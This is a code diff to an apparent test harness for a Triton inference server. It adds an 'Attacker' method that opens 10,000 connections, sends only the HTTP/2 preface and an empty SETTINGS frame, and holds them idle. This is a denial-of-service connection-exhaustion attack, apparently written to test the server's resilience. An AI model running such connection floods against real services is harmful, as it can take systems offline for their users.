@@ -22,6 +22,7 @@ from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub
 
 from attack.peers import EndedError, Http2, call_fields, framed, gzipped, http, http_head, zeros
 from calls import request, simple_inputs
+from slow_peers import PREFACE, SETTINGS, frame
 
 SERVICE = "/inference.GRPCInferenceService/"
 LEAST_SECONDS = 8
@@ -283,6 +284,10 @@ class Attacker:
         self._hold_open(700, self.grpc_port, b"")
         self._hold_open(700, self.http_port, b"")
 
+    def many_idle_connections(self) -> None:
+        """Row 18i: 10,000 that have said what a connection of HTTP/2 begins with, and nothing since."""
+        self._hold_open(10_000, self.grpc_port, PREFACE + frame(SETTINGS, 0, 0, b""))
+
     def _hold_open(self, count: int, port: int, data: bytes) -> None:
         self.sockets = getattr(self, "sockets", [])
         for _ in range(count):
@@ -320,6 +325,7 @@ ACTS: dict[str, Callable[[Attacker], None]] = {
     "17": Attacker.short_deadlines,
     "18n": Attacker.zero_names,
     "18c": Attacker.idle_connections,
+    "18i": Attacker.many_idle_connections,
     "18l": Attacker.two_lengths,
 }
 
